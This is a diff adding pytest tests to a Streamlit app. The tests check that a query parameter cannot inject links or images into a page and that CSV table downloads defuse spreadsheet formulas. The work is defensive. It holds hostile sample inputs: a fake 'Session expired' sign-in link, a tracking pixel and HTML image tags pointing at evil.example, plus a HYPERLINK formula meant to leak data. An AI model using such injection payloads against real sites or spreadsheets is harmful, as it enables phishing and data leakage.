@@ -241,3 +241,98 @@ def test_figure_cards_escape_wording_and_sources(curated: Tables, text: str) -> 
     escaped = re.sub(r"[!-/:-@\[-`{-~]", lambda match: "\\" + match.group(), text)
     assert escaped in app.markdown[0].proto.help
     assert escaped in app.caption[0].value
+
+
+# --- link parameters and table exports ------------------------------------------------------------
+
+
+def _rendered_html(markdown: str) -> str:
+    """CommonMark's rendering of what the page sends; Streamlit's renderer also links bare URLs."""
+    from markdown_it import MarkdownIt
+
+    return MarkdownIt("commonmark").render(markdown)
+
+
+@pytest.mark.parametrize(
+    "query",
+    [
+        "[Session expired - sign in again](https://evil.example/login)",
+        "![x](http://evil.example/pixel.png)",
+        "<https://evil.example/>",
+        "https://evil.example/login",
+        '<img src="http://evil.example/x.png">',
+    ],
+    ids=["link", "image", "autolink", "bare-url", "html-image"],
+)
+def test_a_cargo_link_cannot_put_a_link_or_image_in_the_page(query: str) -> None:
+    from conftest import REPO_DIR
+    from streamlit.testing.v1 import AppTest
+
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore", ResourceWarning)
+        app = AppTest.from_file(str(REPO_DIR / "app.py"), default_timeout=120)
+        app.query_params["q"] = query
+        app.switch_page("app_pages/cargo.py").run()
+    assert not app.exception
+    [warning] = app.warning
+    html = _rendered_html(warning.value)
+    assert "<a " not in html and "<img" not in html, html
+    assert "://" not in warning.value, "a bare address would be linked by Streamlit's GFM renderer"
+    assert "Session expired" in html or "evil" in html, "the query is still shown, as text"
+
+
+def _table_app() -> None:
+    """Runs inside AppTest: one table with a formula for a name, with the project's download."""
+    import pandas as pd
+
+    from ui.tables import data_table
+
+    data_table(
+        pd.DataFrame({"name": ['=HYPERLINK("http://example.invalid/?leak","click me")', "+SUM(1,2)"]}),
+        "x.csv",
+    )
+
+
+def test_table_downloads_defuse_formulas(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Streamlit's own export is off (config); the project's download writes formulas as text."""
+    import streamlit
+    from streamlit.testing.v1 import AppTest
+
+    sent: list[bytes] = []
+    real = streamlit.download_button
+
+    def recording(label, data, *args, **kwargs):
+        sent.append(data)
+        return real(label, data, *args, **kwargs)
+
+    monkeypatch.setattr(streamlit, "download_button", recording)
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore", ResourceWarning)
+        app = AppTest.from_function(_table_app, default_timeout=60).run()
+    assert not app.exception
+    assert [button.label for button in app.get("download_button")] == ["Download x.csv"]
+    [data] = sent
+    cells = [row[0] for row in csv.reader(io.StringIO(data.decode("utf-8-sig")))][1:]
+    assert cells and not any(cell.startswith(FORMULA_STARTS) for cell in cells), cells
+
+
+def test_streamlits_own_table_export_is_off() -> None:
+    import tomllib
+
+    from conftest import REPO_DIR
+
+    config = tomllib.loads((REPO_DIR / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
+    assert config["client"]["disableDataExport"] is True
+
+
+def test_every_table_goes_through_data_table() -> None:
+    """One place shows tables: a page calling st.dataframe itself would skip the formula-safe download."""
+    from conftest import REPO_DIR
+
+    callers = [
+        path.relative_to(REPO_DIR).as_posix()
+        for folder in ("app_pages", "ui", "atlas")
+        for path in sorted((REPO_DIR / folder).glob("*.py"))
+        if re.search(r"\bst\.(dataframe|data_editor)\(", path.read_text(encoding="utf-8"))
+    ]
+    assert callers == ["ui/tables.py"]
